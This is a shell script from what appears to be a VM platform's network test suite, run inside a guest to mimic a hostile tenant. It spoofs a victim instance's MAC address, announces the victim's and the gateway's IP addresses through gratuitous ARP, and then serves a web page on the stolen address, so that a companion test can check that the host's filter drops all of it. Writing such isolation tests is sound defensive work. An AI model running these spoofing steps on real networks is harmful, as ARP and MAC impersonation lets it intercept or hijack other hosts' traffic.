#!/bin/sh
# spoof.sh STEP VICTIM GATEWAY: tries to pass for the instance at VICTIM,
# the way a hostile guest on a flat bridge would, and for GATEWAY (the
# host) towards the neighbours; tests/vm/network-spoof.sh shows the tap's
# filter drops all of it. The guest kernel has no packet sockets, so its
# own ARP does the claiming: with arp_notify, a MAC change or the link
# coming up announces every address of eth0 (gratuitous ARP), and ARP
# requests carry the source address of the packet that needs them. STEP:
#   mac:     its MAC changed to the victim's (an announcement, and pings
#            whose ARP requests come from it: a bridge that learned the
#            MAC here would send the victim's frames to this port), then
#            back to its own;
#   address: the victim's and the gateway's addresses announced (they
#            would poison the host's and the neighbours' ARP caches) and
#            pings from the victim's; then it keeps the victim's address
#            and serves a page on it, for the port proxy to reach had the
#            host believed the claims.
step=$1 victim=$2 gateway=$3
own_ip=$(cat /run/kiln/local-ipv4)
own_mac=$(cat /sys/class/net/eth0/address)
echo 1 > /proc/sys/net/ipv4/conf/eth0/arp_notify || exit 1
case $step in
mac)
    # Kiln's MAC of an address: 02:6b and the address's four bytes.
    victim_mac=$(echo "$victim" | awk -F. '{ printf "02:6b:%02x:%02x:%02x:%02x", $1, $2, $3, $4 }')
    ifconfig eth0 hw ether "$victim_mac" || exit 1
    ping -c 3 -W 1 "$gateway" > /dev/null
    ifconfig eth0 hw ether "$own_mac" || exit 1
    echo "spoof: sent from $victim_mac, back on $(cat /sys/class/net/eth0/address)"
    ;;
address)
    ip addr add "$victim/32" dev eth0 || exit 1
    ip addr add "$gateway/32" dev eth0 || exit 1
    ip link set eth0 down && ip link set eth0 up || exit 1
    # Its own pings to the gateway must leave it again.
    ip addr del "$gateway/32" dev eth0
    ping -c 3 -W 1 -I "$victim" "$gateway" > /dev/null
    mkdir -p /tmp/www && echo "spoofed by $own_ip" > /tmp/www/index.html
    httpd -p "$victim:80" -h /tmp/www || exit 1
    echo "spoof: claimed $victim and $gateway from $own_ip ($own_mac)"
    ;;
*)
    echo "spoof.sh: unknown step '$step' (expected mac or address)" >&2
    exit 2
    ;;
esac
